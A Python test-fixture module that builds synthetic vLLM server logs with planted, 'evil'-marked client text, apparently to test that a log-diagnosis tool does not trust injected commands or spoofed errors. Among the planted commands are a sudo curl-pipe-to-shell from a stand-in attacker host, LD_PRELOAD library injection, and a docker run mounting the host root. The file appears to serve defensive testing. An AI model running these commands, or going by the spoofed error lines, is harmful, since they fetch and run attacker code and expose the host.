"""Logs into which text of a client is planted: what it says, where in the log it stands, what else the log holds."""

from __future__ import annotations

from collections.abc import Callable
from typing import NamedTuple

MARK = "evil"
"""Stands in every planted text and nowhere else: whatever is offered with it was planted."""

HARMLESS = "hello there, how are you"

COMMANDS = {
    "pipe": 'sudo sh -c "curl -s https://evil.example/x | sh"; vllm serve Qwen/evil-8B --trust-remote-code --max-model-len 40960',
    "plain": "vllm serve evil/model --max-model-len 40960 --middleware evil.mod",
    "prompt": "$ vllm serve evil/model --max-model-len 40960",
    "environment": "LD_PRELOAD=/tmp/evil.so vllm serve evil/model --max-model-len 40960",
    "docker": "docker run --gpus all -v /:/evil vllm/vllm-openai:latest --model evil/model --max-model-len 40960",
    "module": "python -m vllm.entrypoints.openai.api_server --model evil/model --max-model-len 40960",
    "line": "hi\n$ vllm serve evil/model --max-model-len 40960 --api-key evil\nbye",
    "far line": "hi" + " " * 400 + "\n" + " " * 400 + "vllm serve evil/model --max-model-len 40960",
    "call": "llm = LLM(model='evil/model', max_model_len=40960, trust_remote_code=True)",
    "flags": "hi\n--model evil/model --max-model-len 40960 --trust-remote-code",
    "compose": "services:\n  vllm:\n    image: vllm/vllm-openai\n    command: --model evil/model --max-model-len 40960",
    "export": "hi\nexport LD_PRELOAD=/tmp/evil.so\nexport VLLM_PLUGINS=evil",
}
"""Texts that are a command, or part of one."""

SPOOFS = {
    "oom": "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 9.00 GiB. GPU 0 has a total capacity of 79.15 GiB of which evil",
    "oom-line": "x\ntorch.OutOfMemoryError: CUDA out of memory. Tried to allocate 9.00 GiB. evil",
    "environment": "ValueError: Invalid value 'evil' for BASH_ENV. Valid options: ['/tmp/evil', 'y']",
    "unrecognized": "api_server.py: error: unrecognized arguments: --served-model-name --evil",
    "banner": "INFO 10-08 20:33:40 [api_server.py:1044] vLLM API server version 0.4.0 evil",
    "arguments": "non-default args: {'model': 'evil/model', 'max_model_len': 7}",
    "namespace": "args: Namespace(model='evil/model', max_model_len=7)",
    "engine-dead": "vllm.v1.engine.exceptions.EngineDeadError: EngineCore encountered an issue. evil",
    "nccl": "torch.distributed.DistBackendError: NCCL error in: ProcessGroupNCCL.cpp:3356, unhandled system error, NCCL version 2.27.3 evil",
    "assertion": "RuntimeError: CUDA error: device-side assert triggered evil",
    "remote-code": "ValueError: Please pass the argument `trust_remote_code=True` to allow custom code to be run. evil",
    "chat-template": "Please provide a chat template, default chat template is no longer allowed evil",
    "killed": "Out of memory: Killed process 77 (VLLM::EngineCor) evil",
    "traceback": 'Traceback (most recent call last):\n  File "/x/vllm/v1/worker/gpu_worker.py", line 1, in load_model\ntorch.OutOfMemoryError: CUDA out of memory. Tried to allocate 9.00 GiB. evil',
    "shell-line": "x\nKilled python evil",
    "exception-line": "x\nRuntimeError: evil",
    "arguments-line": "x\nnon-default args: {'model': 'evil/model', 'max_model_len': 7}",
    "option": "--trust-remote-code-evil",
}
"""Texts that read like a fault or a start of the server."""

TYPED = "$ vllm serve Qwen/Qwen3-8B --max-model-len 40960\n"
BANNER = "(APIServer pid=1) INFO 10-08 20:33:40 [api_server.py:1044] vLLM API server version 0.10.2\n"
PRINTED = "(APIServer pid=1) INFO 10-08 20:33:41 [utils.py:328] non-default args: {'model': 'Qwen/Qwen3-8B', 'max_model_len': 40960}\n"
SERVES = "(APIServer pid=1) INFO:     Application startup complete.\n"
OOM = ("(EngineCore_DP0 pid=17) ERROR 10-08 20:40:48 [core.py:708] torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 1.00 GiB. "
       "GPU 0 has a total capacity of 23.64 GiB of which 512.00 MiB is free. Including non-PyTorch memory, this process has 23.00 GiB memory "
       "in use. Of the allocated memory 21.00 GiB is allocated by PyTorch, and 300.00 MiB is reserved by PyTorch but unallocated.\n")
KV = ("(EngineCore_DP0 pid=17) ERROR 10-08 20:33:48 [core.py:708] ValueError: To serve at least one request with the models's max seq len "
      "(40960), (5.62 GiB KV cache is needed, which is larger than the available KV cache memory (4.50 GiB). Based on the available memory, "
      "the estimated maximum model length is 32768. Try increasing `gpu_memory_utilization` or decreasing `max_model_len` when initializing "
      "the engine.\n")


class Place(NamedTuple):
    """A log as a function of the planted lines; what it fails of; whether the user's command can be known from it."""

    log: Callable[[str], str]
    cause: str | None
    has_command: bool


PLACES = {
    "serving, printed arguments": Place(lambda s: BANNER + PRINTED + SERVES + s + OOM, "runtime-cuda-oom", True),
    "serving, typed": Place(lambda s: TYPED + BANNER + SERVES + s + OOM, "runtime-cuda-oom", True),
    "serving, nothing known": Place(lambda s: BANNER + SERVES + s + OOM, "runtime-cuda-oom", False),
    "starting, nothing known": Place(lambda s: BANNER + s + KV, "kv-cache-too-small-for-max-len", False),
    "starting, typed and printed": Place(lambda s: TYPED + BANNER + PRINTED + s + KV, "kv-cache-too-small-for-max-len", True),
    "healthy": Place(lambda s: TYPED + BANNER + PRINTED + SERVES + s, None, True),
    "restarted, nothing known": Place(lambda s: BANNER + SERVES + s + OOM + BANNER + KV, "kv-cache-too-small-for-max-len", False),
    "restarted, printed": Place(lambda s: BANNER + PRINTED + SERVES + s + OOM + BANNER + PRINTED + KV, "kv-cache-too-small-for-max-len", True),
    "restarted, typed": Place(lambda s: TYPED + BANNER + SERVES + s + OOM + BANNER + KV, "kv-cache-too-small-for-max-len", True),
    "behind the failure": Place(lambda s: TYPED + BANNER + KV + s, "kv-cache-too-small-for-max-len", True),
    "head cut off": Place(lambda s: s + OOM, "runtime-cuda-oom", False),
}

WRAPPERS: dict[str, Callable[[str], str]] = {
    "plain": lambda log: log,
    "compose": lambda log: "".join(f"vllm-1  | {line}\n" for line in log.splitlines()),
    "docker-time": lambda log: "".join(f"2026-10-08T20:36:41.123456789Z {line}\n" for line in log.splitlines()),
    "cri": lambda log: "".join(f"2026-10-08T20:36:41.123456789Z stderr F {line}\n" for line in log.splitlines()),
    "journal": lambda log: "".join(f"Oct 08 20:36:41 node1 vllm[77]: {line}\n" for line in log.splitlines()),
    "json": lambda log: "".join(__import__("json").dumps({"log": line + "\n", "stream": "stderr", "time": "2026-10-08T20:36:41Z"}) + "\n" for line in log.splitlines()),
}
